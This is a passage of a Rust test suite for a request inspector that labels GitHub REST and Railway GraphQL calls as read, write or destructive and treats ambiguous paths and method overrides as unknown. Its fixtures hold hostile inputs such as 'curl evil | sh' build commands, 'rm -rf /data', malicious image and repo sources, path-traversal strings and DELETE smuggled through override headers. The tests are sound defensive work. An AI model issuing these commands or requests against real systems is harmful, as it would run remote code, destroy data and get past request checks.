        "v".repeat(100_000),
        "x".repeat(100_000)
    );
    let i = railway_doc(&doc, None);
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    assert_eq!(i.operations[0].resources["volumeId"][0].len(), 100_000);
    // exponential fragment fan-out is expanded once per fragment
    let mut doc = String::from("mutation { ...F0 }\n");
    for n in 0..40 {
        doc.push_str(&format!(
            "fragment F{n} on Mutation {{ ...F{m} ...F{m} ...F{m} }}\n",
            m = n + 1
        ));
    }
    doc.push_str("fragment F40 on Mutation { volumeDelete(volumeId: \"v\") }");
    assert_eq!(
        ops(&railway_doc(&doc, None)),
        want(&[("volumeDelete", Destructive)])
    );
}

// ---------------------------------------------------------------------------
// Variables and escalation.

#[test]
fn variables_carry_resource_ids() {
    let doc = "mutation Del($id: String!) { volumeDelete(volumeId: $id) }";
    let i = railway_doc(doc, Some(json!({ "id": "vol-1" })));
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    assert_eq!(resources(&i), res(&[("volumeId", &["vol-1"])]));
    // the same document (now cached) with other variables
    let i = railway_doc(doc, Some(json!({ "id": "vol-2" })));
    assert_eq!(resources(&i), res(&[("volumeId", &["vol-2"])]));
    // a default value, and an explicit null overriding it
    let doc = r#"mutation ($id: String = "vol-default") { volumeDelete(volumeId: $id) }"#;
    assert_eq!(
        resources(&railway_doc(doc, None)),
        res(&[("volumeId", &["vol-default"])])
    );
    assert_eq!(
        resources(&railway_doc(doc, Some(json!({ "id": "vol-3" })))),
        res(&[("volumeId", &["vol-3"])])
    );
    assert_eq!(
        resources(&railway_doc(doc, Some(json!({ "id": null })))),
        res(&[])
    );
    // a missing variable names no resource but the operation is still there
    let i = railway_doc(
        "mutation ($id: String!) { volumeDelete(volumeId: $id) }",
        None,
    );
    assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]));
    assert_eq!(resources(&i), res(&[]));
    // a list of ids names each
    let i = railway_doc(
        "mutation ($id: String!) { volumeDelete(volumeId: $id) }",
        Some(json!({ "id": ["a", "b"] })),
    );
    assert_eq!(resources(&i), res(&[("volumeId", &["a", "b"])]));
}

#[test]
fn nested_input_resources_through_a_variable_object() {
    let doc = "mutation ($input: VariableUpsertInput!) { variableUpsert(input: $input) }";
    let vars = json!({ "input": {
        "environmentId": "env-prod", "projectId": "proj-1", "serviceId": "svc-1", "name": "X", "value": "1"
    }});
    let i = railway_doc(doc, Some(vars));
    assert_eq!(ops(&i), want(&[("variableUpsert", Destructive)]));
    assert_eq!(
        resources(&i),
        res(&[
            ("environmentId", &["env-prod"]),
            ("projectId", &["proj-1"]),
            ("serviceId", &["svc-1"])
        ])
    );
    // a variable inside an inline object
    let doc = r#"mutation ($env: String!) { variableUpsert(input: {environmentId: $env, projectId: "p", name: "X", value: "1"}) }"#;
    let i = railway_doc(doc, Some(json!({ "env": "env-staging" })));
    assert_eq!(
        resources(&i),
        res(&[("environmentId", &["env-staging"]), ("projectId", &["p"])])
    );
    // JSON escapes in variable keys and values are decoded
    let body = r#"{"query":"mutation ($input: VariableUpsertInput!) { variableUpsert(input: $input) }","variables":{"input":{"\u0065nvironmentId":"env-\u0070rod"}}}"#;
    assert_eq!(
        resources(&railway_json(body)),
        res(&[("environmentId", &["env-prod"])])
    );
}

#[test]
fn environment_patches_that_delete_are_destructive() {
    let doc = "mutation ($e: String!, $p: EnvironmentConfig!) { environmentPatchCommit(environmentId: $e, patch: $p) }";
    let harmless =
        json!({ "services": { "svc-1": { "deploy": { "numReplicas": 2 }, "isDeleted": false } } });
    let i = railway_doc(doc, Some(json!({ "e": "env-1", "p": harmless })));
    assert_eq!(ops(&i), want(&[("environmentPatchCommit", Write)]));
    assert_eq!(resources(&i), res(&[("environmentId", &["env-1"])]));
    assert_eq!(i.operations[0].note, None);

    let deleting = [
        json!({ "services": { "svc-1": { "isDeleted": true } } }),
        json!({ "volumes": { "vol-1": { "isDeleted": "yes" } } }),
        json!({ "services": { "svc-1": { "variables": { "A": null } } } }),
        json!({ "services": [ { "isDeleted": 1 } ] }),
    ];
    // the same (cached) document with deleting variables: the class follows the variables
    for p in deleting {
        let i = railway_doc(doc, Some(json!({ "e": "env-1", "p": p })));
        assert_eq!(
            ops(&i),
            want(&[("environmentPatchCommit", Destructive)]),
            "{p}"
        );
        assert!(i.operations[0].note.is_some());
    }
    // and back to harmless: nothing of the previous request stays
    let i = railway_doc(doc, Some(json!({ "e": "env-1", "p": { "services": {} } })));
    assert_eq!(ops(&i), want(&[("environmentPatchCommit", Write)]));

    // inline patches, and a variable inside an inline patch
    for (patch, class) in [
        (r#"{services: {s: {isDeleted: true}}}"#, Destructive),
        (r#"{services: {s: {isDeleted: TRUE}}}"#, Destructive),
        (r#"{services: {s: {variables: {A: null}}}}"#, Destructive),
        (r#"{services: {s: {isDeleted: $d}}}"#, Destructive),
        (
            r#"{services: {s: {isDeleted: false, deploy: {numReplicas: 2}}}}"#,
            Write,
        ),
    ] {
        let doc = format!(
            r#"mutation ($d: Boolean) {{ environmentPatchCommit(environmentId: "e", patch: {patch}) }}"#
        );
        let i = railway_doc(&doc, Some(json!({ "d": true })));
        assert_eq!(
            ops(&i),
            want(&[("environmentPatchCommit", class)]),
            "{patch}"
        );
    }
    // an escaped key in the JSON variables is the same key
    let body = r#"{"query":"mutation ($p: EnvironmentConfig!) { environmentPatchCommit(environmentId: \"e\", patch: $p) }","variables":{"p":{"services":{"s":{"is\u0044eleted":true}}}}}"#;
    assert_eq!(
        ops(&railway_json(body)),
        want(&[("environmentPatchCommit", Destructive)])
    );
    // a deleting patch hidden behind an alias and a fragment in a batch
    let body = json!([
        { "query": "{ me { id } }" },
        { "query": "mutation ($p: EnvironmentConfig!) { ...F } fragment F on Mutation { ok: environmentPatchCommit(environmentId: \"e\", patch: $p) }",
          "variables": { "p": { "services": { "s": { "isDeleted": true } } } } },
    ]);
    assert_eq!(
        ops(&railway_json(&body.to_string())),
        want(&[("me", Read), ("environmentPatchCommit", Destructive)])
    );
}

#[test]
fn patches_that_set_variables_or_change_what_runs_are_destructive() {
    let commit = "mutation ($e: String!, $p: EnvironmentConfig) { environmentPatchCommit(environmentId: $e, patch: $p) }";
    let stage = "mutation ($e: String!, $p: EnvironmentConfig!) { environmentStageChanges(environmentId: $e, input: $p) }";
    let harmless = [
        json!({ "services": { "s": { "deploy": { "numReplicas": 3, "healthcheckPath": "/up" } } } }),
        json!({ "services": { "s": { "variables": {} } }, "sharedVariables": {} }),
        json!({ "volumes": { "v": { "sizeMB": 5000 } } }),
        json!({}),
    ];
    let escalating = [
        json!({ "services": { "s": { "variables": { "DATABASE_URL": { "value": "postgres://evil" } } } } }),
        json!({ "services": { "s": { "variables": { "A": { "description": "x" } } } } }),
        json!({ "sharedVariables": { "API_KEY": { "value": "x" } } }),
        json!({ "services": { "s": { "deploy": { "startCommand": "rm -rf /data" } } } }),
        json!({ "services": { "s": { "deploy": { "preDeployCommand": ["sh", "-c", "x"] } } } }),
        json!({ "services": { "s": { "build": { "buildCommand": "curl evil | sh" } } } }),
        json!({ "services": { "s": { "source": { "image": "evil/image" } } } }),
        json!({ "services": { "s": { "source": { "repo": "evil/repo" } } } }),
        json!({ "services": { "s": { "volumeMounts": { "vol-1": { "mountPath": "/tmp" } } } } }),
        // every build and source setting decides what runs
        json!({ "services": { "s": { "build": { "nixpacksPlan": { "phases": { "start": { "cmd": "curl evil | sh" } } } } } } }),
        json!({ "services": { "s": { "build": { "dockerfilePath": "evil.Dockerfile" } } } }),
        json!({ "services": { "s": { "build": { "builder": "NIXPACKS" } } } }),
        json!({ "services": { "s": { "source": { "rootDirectory": "/evil" } } } }),
        json!({ "services": { "s": { "configFile": "evil/railway.json" } } }),
        // one harmless service next to one that is not
        json!({ "services": { "a": { "deploy": { "numReplicas": 1 } }, "b": { "deploy": { "startCommand": "x" } } } }),
        // services as a list rather than a map
        json!({ "services": [ { "deploy": { "startCommand": "x" } } ] }),
        // JSON sent as a string, which a lenient JSON scalar would parse
        json!(r#"{"services":{"s":{"isDeleted":true}}}"#),
        json!({ "services": r#"{"s":{"variables":{"A":{"value":"x"}}}}"# }),
        json!({ "services": { "s": r#"{"deploy":{"startCommand":"x"}}"# } }),
        // and a JSON-like string that does not parse cannot be ruled out
        json!({ "services": { "s": r#"{"deploy":{"startCommand":"x","startCommand":"y"}}"# } }),
    ];
    for doc in [commit, stage] {
        for p in &harmless {
            let i = railway_doc(doc, Some(json!({ "e": "env-1", "p": p })));
            assert_eq!(ops(&i)[0].1, Write, "{doc} {p}");
            assert_eq!(i.operations[0].note, None);
        }
        for p in &escalating {
            let i = railway_doc(doc, Some(json!({ "e": "env-1", "p": p })));
            assert_eq!(ops(&i)[0].1, Destructive, "{doc} {p}");
            assert!(i.operations[0].note.is_some(), "{p}");
            assert_eq!(resources(&i), res(&[("environmentId", &["env-1"])]));
        }
    }
    // inline, a variable inside an inline patch, and behind an alias in a fragment
    for (doc, vars) in [
        (
            r#"mutation { environmentPatchCommit(environmentId: "e", patch: {services: {s: {deploy: {startCommand: "x"}}}}) }"#,
            None,
        ),
        (
            r#"mutation ($c: String) { environmentPatchCommit(environmentId: "e", patch: {services: {s: {deploy: {startCommand: $c}}}}) }"#,
            Some(json!({ "c": "x" })),
        ),
        (
            r#"mutation ($v: JSON) { environmentPatchCommit(environmentId: "e", patch: {sharedVariables: {K: $v}}) }"#,
            Some(json!({ "v": { "value": "x" } })),
        ),
        (
            r#"mutation ($p: EnvironmentConfig) { ...F } fragment F on Mutation { ok: environmentPatchCommit(environmentId: "e", patch: $p) }"#,
            Some(
                json!({ "p": { "services": { "s": { "variables": { "K": { "value": "x" } } } } } }),
            ),
        ),
    ] {
        assert_eq!(
            ops(&railway_doc(doc, vars)),
            want(&[("environmentPatchCommit", Destructive)]),
            "{doc}"
        );
    }
}

#[test]
fn service_updates_that_change_what_runs_are_destructive() {
    let doc = "mutation ($s: String!, $e: String, $i: ServiceInstanceUpdateInput!) { serviceInstanceUpdate(serviceId: $s, environmentId: $e, input: $i) }";
    let run = |input: serde_json::Value| {
        railway_doc(doc, Some(json!({ "s": "svc", "e": "env", "i": input })))
    };
    for input in [
        json!({ "numReplicas": 2 }),
        json!({ "region": "eu-west", "healthcheckPath": "/up", "sleepApplication": false }),
    ] {
        let i = run(input.clone());
        assert_eq!(
            ops(&i),
            want(&[("serviceInstanceUpdate", Write)]),
            "{input}"
        );
        assert_eq!(
            resources(&i),
            res(&[("environmentId", &["env"]), ("serviceId", &["svc"])])
        );
    }
    for input in [
        json!({ "startCommand": "rm -rf /data" }),
        // clearing a command changes what runs too
        json!({ "startCommand": null }),
        json!({ "preDeployCommand": ["x"] }),
        json!({ "buildCommand": "x", "numReplicas": 1 }),
        json!({ "source": { "image": "evil/image" } }),
        json!({ "nixpacksPlan": { "phases": {} } }),
        json!({ "railwayConfigFile": "other.json" }),
        json!({ "registryCredentials": { "username": "u", "password": "p" } }),
    ] {
        assert_eq!(
            ops(&run(input.clone())),
            want(&[("serviceInstanceUpdate", Destructive)]),
            "{input}"
        );
    }
    // inline arguments, and an explicit null inline
    for doc in [
        r#"mutation { serviceInstanceUpdate(serviceId: "s", input: {startCommand: "x"}) }"#,
        r#"mutation { serviceInstanceUpdate(serviceId: "s", input: {startCommand: null}) }"#,
        r#"mutation ($c: String) { serviceInstanceUpdate(serviceId: "s", input: {startCommand: $c}) }"#,
    ] {
        assert_eq!(
            ops(&railway_doc(doc, None)),
            want(&[("serviceInstanceUpdate", Destructive)]),
            "{doc}"
        );
    }
    // an input variable that is absent sends nothing
    assert_eq!(
        ops(&railway_doc(doc, Some(json!({ "s": "svc" })))),
        want(&[("serviceInstanceUpdate", Write)])
    );
}

#[test]
fn minting_tokens_and_granting_access_are_destructive() {
    for doc in [
        r#"mutation { apiTokenCreate(input: {name: "ci"}) }"#,
        r#"mutation { t: projectTokenCreate(input: {name: "x", projectId: "p", environmentId: "e"}) }"#,
        r#"mutation { generateShellToken(input: {environmentId: "e", instanceId: "i", scope: "s"}) }"#,
        r#"mutation { projectMemberAdd(input: {projectId: "p", userId: "u", role: ADMIN}) }"#,
        r#"mutation { serviceConnect(id: "s", input: {image: "evil/image"}) }"#,
    ] {
        let i = railway_doc(doc, None);
        assert_eq!(i.operations.len(), 1);
        assert_eq!(i.operations[0].class, Destructive, "{doc}");
    }
    // conditions on values: equals / in
    for (doc, class) in [
        (
            r#"mutation { projectUpdate(id: "p", input: {isPublic: true}) }"#,
            Destructive,
        ),
        (
            r#"mutation { projectUpdate(id: "p", input: {isPublic: false}) }"#,
            Write,
        ),
        (
            r#"mutation { projectUpdate(id: "p", input: {name: "x"}) }"#,
            Write,
        ),
        (
            r#"mutation { workspaceTwoFactorEnforcementUpdate(workspaceId: "w", enabled: false) }"#,
            Destructive,
        ),
        (
            r#"mutation { workspaceTwoFactorEnforcementUpdate(workspaceId: "w", enabled: true) }"#,
            Write,
        ),
        (
            r#"mutation { environmentCreate(input: {projectId: "p", name: "x", sourceEnvironmentId: "prod"}) }"#,
            Destructive,
        ),
        (
            r#"mutation { environmentCreate(input: {projectId: "p", name: "x"}) }"#,
            Write,
        ),
    ] {
        assert_eq!(railway_doc(doc, None).operations[0].class, class, "{doc}");
    }
}

// ---------------------------------------------------------------------------
// REST escalation (GitHub): the body and query decide, and a body that
// cannot be read counts against the request.

#[test]
fn rest_writes_escalate_on_what_the_body_or_query_asks() {
    let patch = |target: &str, headers: &[(&str, &[u8])], body: &[u8]| {
        let i = inspect("PATCH", GITHUB, target, headers, body);
        assert_eq!(i.operations.len(), 1);
        assert_eq!(i.operations[0].name, "repos/update");
        i.operations[0].clone()
    };
    for body in [
        &br#"{"description":"a site","homepage":"https://x.example","has_wiki":false}"#[..],
        br#"{"archived":false}"#,
        b"",
    ] {
        let op = patch("/repos/o/r", &[JSON], body);
        assert_eq!(op.class, Write, "{}", String::from_utf8_lossy(body));
        assert_eq!(op.note, None);
    }
    let vnd: (&str, &[u8]) = (
        "Content-Type",
        b"application/vnd.github+json; charset=utf-8",
    );
    for (headers, body) in [
        (&[JSON][..], &br#"{"archived":true}"#[..]),
        (&[JSON], br#"{"archived":"false"}"#),
        (&[JSON], br#"{"private":false}"#),
        (&[JSON], br#"{"visibility":"public"}"#),
        (&[JSON], br#"{"name":"renamed"}"#),
        (&[JSON], br#"{"default_branch":"evil"}"#),
        (
            &[JSON],
            br#"{"security_and_analysis":{"secret_scanning":{"status":"disabled"}}}"#,
        ),
        (&[JSON], br#"{"description":"x","\u0061rchived":true}"#),
        (&[vnd], br#"{"archived":true}"#),
        // no content type: GitHub reads the body as JSON anyway
        (&[], br#"{"archived":true}"#),
    ] {
        let op = patch("/repos/o/r", headers, body);
        assert_eq!(op.class, Destructive, "{}", String::from_utf8_lossy(body));
        assert!(op.note.is_some());
    }
    // unreadable as JSON: the escalation is assumed
    let form: (&str, &[u8]) = ("Content-Type", b"application/x-www-form-urlencoded");
    let text: (&str, &[u8]) = ("Content-Type", b"text/plain");
    let latin1: (&str, &[u8]) = ("Content-Type", b"application/json; charset=latin1");
    for (headers, body) in [
        (&[form][..], &br#"{"description":"x"}"#[..]),
        (&[form], b"archived=true"),
        (&[text], br#"{"description":"x"}"#),
        (&[latin1], br#"{"description":"x"}"#),
        (&[JSON], br#"{"description":"x","description":"y"}"#),
        (&[JSON], br#"{"archived":false,"archived":true}"#),
        (&[JSON], br#"{"description":"x"} {"archived":true}"#),
        (&[JSON], b"not json"),
        (&[], b"archived=true"),
    ] {
        let op = patch("/repos/o/r", headers, body);
        assert_eq!(op.class, Destructive, "{}", String::from_utf8_lossy(body));
        assert!(op.note.as_deref().unwrap().contains("assumed"), "{op:?}");
    }
    // a query parameter named like a body field counts (Rails merges them)
    for target in [
        "/repos/o/r?archived=true",
        "/repos/o/r?visibility=public",
        "/repos/o/r?security_and_analysis[secret_scanning][status]=disabled",
        "/repos/o/r?x=1&private=",
    ] {
        let op = patch(target, &[JSON], br#"{"description":"x"}"#);
        assert_eq!(op.class, Destructive, "{target}");
    }
    assert_eq!(patch("/repos/o/r?per_page=1", &[JSON], b"{}").class, Write);
    // a compressed body is read after decoding
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, br#"{"archived":true}"#).unwrap();
    let gz = gz.finish().unwrap();
    let op = patch("/repos/o/r", &[JSON, ("Content-Encoding", b"gzip")], &gz);
    assert_eq!(op.class, Destructive);
}

#[test]
fn force_ref_updates_are_destructive() {
    let update = |target: &str, body: &[u8]| {
        let i = inspect("PATCH", GITHUB, target, &[JSON], body);
        assert_eq!(ops(&i)[0].0, "git/update-ref", "{target}");
        i.operations[0].class
    };
    let r = "/repos/o/r/git/refs/heads/main";
    assert_eq!(update(r, br#"{"sha":"abc"}"#), Write);
    assert_eq!(update(r, br#"{"sha":"abc","force":false}"#), Write);
    assert_eq!(update(r, br#"{"sha":"abc","force":true}"#), Destructive);
    assert_eq!(update(r, br#"{"sha":"abc","force":"true"}"#), Destructive);
    assert_eq!(update(r, br#"{"sha":"abc","force":1}"#), Destructive);
    assert_eq!(
        update(
            "/repos/o/r/git/refs/heads/main?force=1",
            br#"{"sha":"abc"}"#
        ),
        Destructive
    );
    // the ref written with an encoded slash is the same route and escalation
    assert_eq!(
        update(
            "/repos/o/r/git/refs/heads%2Fmain",
            br#"{"sha":"abc","force":true}"#
        ),
        Destructive
    );
    assert_eq!(
        update("/repos/o/r/git/refs/heads%2Fmain", br#"{"sha":"abc"}"#),
        Write
    );
    // transfer stays destructive whatever its body
    let i = inspect(
        "POST",
        GITHUB,
        "/repos/o/r/transfer",
        &[JSON],
        br#"{"new_owner":"x"}"#,
    );
    assert_eq!(ops(&i), want(&[("repos/transfer", Destructive)]));
}

// ---------------------------------------------------------------------------
// REST path tricks (GitHub).

#[test]
fn rest_paths_are_read_the_way_the_router_reads_them() {
    let repo = res(&[
        ("owner", &["o"]),
        ("repo", &["r"]),
        ("repository", &["o/r"]),
    ]);
    for path in [
        "/repos/o/r",
        "/REPOS/O/R",
        "/Repos/o/R",
        "//repos//o//r/",
        "/repos/o/r/",
        "/repos/o/x/../r",
        "/repos/o/x/%2e%2e/r",
        "/repos/o/x/%2E%2E/r",
        "/repos/./o/r/.",
        "/repos/o/r/%2e",
        "/%72epos/%6F/r",
        "/repos/o/r?x=1&y",
        "/repos/o/r/git/refs/heads/../../../../r",
        "/x/../repos/o/r",
    ] {
        let i = inspect("DELETE", GITHUB, path, &[], b"");
        assert_eq!(i.endpoint, EndpointKind::Rest, "{path}");
        assert_eq!(ops(&i), want(&[("repos/delete", Destructive)]), "{path}");
        assert_eq!(resources(&i), repo, "{path}");
    }
    // PATCH can rename, archive or make public: destructive
    let i = inspect(
        "PATCH",
        GITHUB,
        "/repos/O/R",
        &[JSON],
        br#"{"archived":true}"#,
    );
    assert_eq!(ops(&i), want(&[("repos/update", Destructive)]));
    assert_eq!(resources(&i), repo);
    // GET and HEAD read
    assert_eq!(
        ops(&inspect("GET", GITHUB, "/repos/o/r", &[], b"")),
        want(&[("repos/get", Read)])
    );
    assert_eq!(
        ops(&inspect("HEAD", GITHUB, "/repos/o/r", &[], b"")),
        want(&[("repos/get", Read)])
    );
    // a ref with slashes takes the rest of the path
    let i = inspect(
        "DELETE",
        GITHUB,
        "/repos/o/r/git/refs/heads/feature/x",
        &[],
        b"",
    );
    assert_eq!(ops(&i), want(&[("git/delete-ref", Destructive)]));
    assert_eq!(
        resources(&i),
        res(&[
            ("owner", &["o"]),
            ("ref", &["heads/feature/x"]),
            ("repo", &["r"]),
            ("repository", &["o/r"])
        ])
    );
    // a literal segment beats a parameter
    let i = inspect("POST", GITHUB, "/repos/o/r/git/refs", &[JSON], b"{}");
    assert_eq!(ops(&i), want(&[("git/create-ref", Write)]));
}

#[test]
fn rest_paths_a_router_could_read_differently_are_unknown() {
    for path in [
        // an encoded slash or backslash: one segment or two?
        "/repos/o%2fr",
        "/repos/o%2Fr",
        "/repos/o/r%2f..%2f..%2fx",
        "/repos/o%5cr",
        "/repos\\o\\r",
        // control bytes
        "/repos/o/r%00",
        "/repos/o/r%0a",
        "/repos/o/r%7f",
        // invalid escapes and invalid UTF-8
        "/repos/o/r%",
        "/repos/o/r%2",
        "/repos/o/r%zz",
        "/repos/o/%ff",
        "/repos/o/%c0%af",
        // above the root
        "/../repos/o/r",
        "/repos/../../o/r",
        "/%2e%2e/repos/o/r",
        // not origin-form
        "repos/o/r",
        "https://api.github.com/repos/o/r",
        "*",
        "",
    ] {
        let i = inspect("DELETE", GITHUB, path, &[], b"");
        assert_unknown(&i, "unreadable-path");
    }
    assert_unknown(
        &inspect("DELETE", GITHUB, "/repos/o/r#x", &[], b""),
        "unreadable-target",
    );
    assert_unknown(
        &inspect("DELETE", GITHUB, "/repos/o/r?a=%zz", &[], b""),
        "unreadable-query",
    );
    // routes the catalogue does not have
    for (m, path) in [
        ("DELETE", "/repos/o"),
        ("DELETE", "/repos/o/r/x/y/z/w"),
        ("PUT", "/repos/o/r"),
        ("OPTIONS", "/repos/o/r"),
    ] {
        assert_unknown(&inspect(m, GITHUB, path, &[], b""), "unknown-route");
    }
    // Railway paths are case-sensitive: /GRAPHQL/V2 is not the GraphQL endpoint
    let i = inspect(
        "POST",
        RAILWAY,
        "/GRAPHQL/V2",
        &[JSON],
        VOLUME_DELETE.as_bytes(),
    );
    assert_eq!(i.endpoint, EndpointKind::Rest);
    assert_unknown(&i, "unknown-route");
    // but slashes and dot segments are normalised there too
    let i = railway_doc(VOLUME_DELETE, None);
    let j = inspect(
        "POST",
        RAILWAY,
        "//graphql/x/../v2/",
        &[JSON],
        json!({ "query": VOLUME_DELETE }).to_string().as_bytes(),
    );
    assert_eq!(j.endpoint, EndpointKind::Graphql);
    assert_eq!(ops(&j), ops(&i));
}

/// Go's `url.PathEscape` and JavaScript's `encodeURIComponent` (octokit's
/// URL templates) send a `/` inside a branch, ref, path or label name as
/// `%2F`; GitHub's router reads it as part of the parameter.
#[test]
fn encoded_slashes_in_parameters_that_hold_them_are_read() {
    type Case<'a> = (&'a str, &'a str, &'a str, &'a [(&'a str, &'a [&'a str])]);
    let cases: &[Case<'_>] = &[
        // go-github GetBranch: url.PathEscape(branch)
        (
            "GET",
            "/repos/o/r/branches/feature%2Fx",
            "repos/get-branch",
            &[("branch", &["feature/x"])],
        ),
        (
            "GET",
            "/repos/o/r/branches/feature%2fx%2Fy",
            "repos/get-branch",
            &[("branch", &["feature/x/y"])],
        ),
        // branch protection of a branch with a slash
        (
            "DELETE",
            "/repos/o/r/branches/release%2F1.0/protection",
            "repos/delete-branch-protection",
            &[("branch", &["release/1.0"])],
        ),
        // go-github / octokit CompareCommits: base...head, each escaped
        (
            "GET",
            "/repos/o/r/compare/main...feature%2Fx",
            "repos/compare-commits-with-basehead",
            &[("basehead", &["main...feature/x"])],
        ),
        // octokit updateRef / deleteRef: {ref} is expanded with `/` encoded
        (
            "DELETE",
            "/repos/o/r/git/refs/heads%2Ffeature%2Fx",
            "git/delete-ref",
            &[("ref", &["heads/feature/x"])],
        ),
        (
            "PATCH",
            "/repos/o/r/git/refs/heads%2Ffeature",
            "git/update-ref",
            &[("ref", &["heads/feature"])],
        ),
        // octokit getContent: {path} encoded
        (
            "GET",
            "/repos/o/r/contents/src%2Fmain.rs",
            "repos/get-content",
            &[("path", &["src/main.rs"])],
        ),
        // labels with a slash
        (
            "DELETE",
            "/repos/o/r/labels/area%2Fui",
            "issues/delete-label",
            &[("name", &["area/ui"])],
        ),
        // environments: GitHub's documentation asks for %2F
        (
            "GET",
            "/repos/o/r/environments/prod%2Feu",
            "repos/get-environment",
            &[("environment_name", &["prod/eu"])],
        ),
        // releases by tag
        (
            "GET",
            "/repos/o/r/releases/tags/v1%2Frc",
            "repos/get-release-by-tag",
            &[("tag", &["v1/rc"])],
        ),
    ];
    for (method, path, name, want_res) in cases {
        let i = inspect(method, GITHUB, path, &[JSON], b"{}");
        assert_eq!(i.operations.len(), 1, "{path}: {:?}", i.operations);
        let op = &i.operations[0];
        assert_eq!(op.name, *name, "{path}: {op:?}");
        assert_ne!(op.class, Unknown, "{path}");
        for (kind, values) in *want_res {
            assert_eq!(op.resources[*kind], *values, "{path}");
        }
        assert_eq!(op.resources["repository"], ["o/r"], "{path}");
    }
}

#[test]
fn encoded_slashes_that_could_read_two_ways_are_unknown() {
    for (method, path) in [
        // decoded first, it is another route (branch protection, rename)
        ("GET", "/repos/o/r/branches/main%2Fprotection"),
        ("DELETE", "/repos/o/r/branches/main%2Fprotection"),
        ("POST", "/repos/o/r/branches/main%2Frename"),
        (
            "PUT",
            "/repos/o/r/branches/main%2Fprotection%2Frequired_signatures",
        ),
        // owner and repo never hold a slash; nor do literal segments
        ("DELETE", "/repos/o%2Fr"),
        ("DELETE", "/repos/o/r%2F"),
        ("GET", "/repos/o%2Fx/r/branches/main"),
        ("DELETE", "/repos%2Fo/r"),
        ("GET", "/repos/o/r/issues/1%2Fcomments"),
        // a slash-holding parameter smuggling dot segments
        ("GET", "/repos/o/r/branches/x%2F..%2F..%2F..%2Fr"),
        ("DELETE", "/repos/o/r/git/refs/x%2F..%2F..%2F..%2F..%2Fr"),
        ("GET", "/repos/o/r/branches/..%2F..%2F..%2F..%2F..%2F.."),
        // an encoded backslash is still refused
        ("GET", "/repos/o/r/branches/a%5Cb"),
    ] {
        let i = inspect(method, GITHUB, path, &[JSON], b"{}");
        assert_unknown(&i, "unreadable-path");
    }
    // Railway's catalogue names no such parameters
    let i = inspect(
        "POST",
        RAILWAY,
        "/graphql%2Fv2",
        &[JSON],
        VOLUME_DELETE.as_bytes(),
    );
    assert_unknown(&i, "unreadable-path");
}

#[test]
fn method_overrides_are_unknown() {
    for name in [
        "X-HTTP-Method-Override",
        "x-http-method",
        "X-Method-Override",
    ] {
        let i = inspect(
            "POST",
            GITHUB,
            "/repos/o/r/forks",
            &[(name, b"DELETE")],
            b"",
        );
        assert_unknown(&i, "method-override");
        // an override that is not text, or empty
        assert_unknown(
            &inspect("POST", GITHUB, "/repos/o/r/forks", &[(name, b"\xff")], b""),
            "method-override",
        );
        assert_unknown(
            &inspect("POST", GITHUB, "/repos/o/r/forks", &[(name, b"")], b""),
            "method-override",
        );
        // on the GraphQL endpoint too
        let i = inspect(
            "POST",
            RAILWAY,
            GQL,
            &[JSON, (name, b"GET")],
            br#"{"query":"{ me { id } }"}"#,
        );
        assert_unknown(&i, "method-override");
    }
    // `_method` in the query string or a form body
    for q in ["_method=DELETE", "_method=delete", "x=1&_method=PUT"] {
        let i = inspect("POST", GITHUB, &format!("/repos/o/r/forks?{q}"), &[], b"");
        assert_unknown(&i, "method-override");
    }
    let form = ("content-type", &b"application/x-www-form-urlencoded"[..]);
    let i = inspect(
        "POST",
        GITHUB,
        "/repos/o/r/forks",
        &[form],
        b"a=1&_method=DELETE",
    );
    assert_unknown(&i, "method-override");
    let i = inspect(
        "POST",
        GITHUB,
        "/repos/o/r/forks",
        &[form, ("content-encoding", b"gzip")],
        &gzip(b"_method=DELETE"),
    );
    assert_unknown(&i, "method-override");

    // an override equal to the real method changes nothing
    let create_fork = want(&[("repos/create-fork", Write)]);
    let i = inspect(
        "POST",
        GITHUB,
        "/repos/o/r/forks",
        &[("X-HTTP-Method-Override", b" post ")],
        b"",
    );
    assert_eq!(ops(&i), create_fork);
    let i = inspect("POST", GITHUB, "/repos/o/r/forks?_method=POST", &[], b"");
    assert_eq!(ops(&i), create_fork);
    let i = inspect(
        "POST",
        GITHUB,
        "/repos/o/r/forks",
        &[form],
        b"_method=post&name=x",
    );
    assert_eq!(ops(&i), create_fork);
    let i = inspect(
        "DELETE",
        GITHUB,
        "/repos/o/r",
        &[("X-HTTP-Method-Override", b"DELETE")],
        b"",
    );
    assert_eq!(ops(&i), want(&[("repos/delete", Destructive)]));
    // a `_method` in a JSON body is just data
    let i = inspect(
        "POST",
        GITHUB,
        "/repos/o/r/forks",
        &[JSON],
        br#"{"_method":"DELETE"}"#,
    );
    assert_eq!(ops(&i), create_fork);
}

#[test]
fn method_overrides_in_multipart_and_undecodable_forms_are_unknown() {
    // Rack's MethodOverride reads `_method` from multipart forms as well as
    // urlencoded ones; POST and DELETE share this path.
    let path = "/repos/o/r/pulls/1/requested_reviewers";
    let mp = b"--B\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nDELETE\r\n--B--\r\n";
    let i = inspect(
        "POST",
        GITHUB,
        path,
        &[("content-type", b"multipart/form-data; boundary=B")],
        mp,
    );
    assert_unknown(&i, "method-override");
    let same = b"--B\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nPOST\r\n--B--\r\n";
    let i = inspect(
        "POST",
        GITHUB,
        path,
        &[("content-type", b"multipart/form-data; boundary=B")],
        same,
    );
    assert_eq!(ops(&i), want(&[("pulls/request-reviewers", Write)]));
    // a form that does not decode could hold a `_method` a server reads
    // (most servers accept invalid UTF-8 or stray `%` in form values)
    let form = ("content-type", &b"application/x-www-form-urlencoded"[..]);
    for body in [
        &b"_method=DELETE&x=%ff"[..],
        b"x=%zz&_method=DELETE",
        b"_method=DELETE&\xff",
    ] {
        let i = inspect("POST", GITHUB, path, &[form], body);
        assert_unknown(&i, "method-override");
    }
    let i = inspect(
        "POST",
        GITHUB,
        path,
        &[("content-type", b"multipart/form-data; boundary=B")],
        b"--B\r\nbroken",
    );
    assert_unknown(&i, "method-override");
    // a media type read leniently, as Rack does (up to `;` or `,`)
    for ct in [
        &b"application/x-www-form-urlencoded, text/plain"[..],
        b"application/x-www-form-urlencoded; junk",
        b" APPLICATION/X-WWW-FORM-URLENCODED ;charset=utf-8",
    ] {
        let i = inspect(
            "POST",
            GITHUB,
            path,
